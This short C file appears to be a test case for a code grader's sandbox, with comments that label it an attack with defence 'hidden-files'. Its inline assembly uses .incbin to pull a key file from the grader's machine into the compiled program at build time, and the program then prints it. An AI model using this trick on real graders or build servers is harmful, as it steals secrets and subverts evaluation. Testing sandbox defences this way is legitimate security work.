// Attack:  has the assembler copy a file of the grader's machine
// Lab:     fork
// Defence: hidden-files
// Without: leak
#include <stdio.h>

__asm__(".global key\nkey: .incbin \"@FOLDER@/key\"\n.byte 0\n");
extern const char key[];

int main(void) {
  puts(key);
  return 1;
}
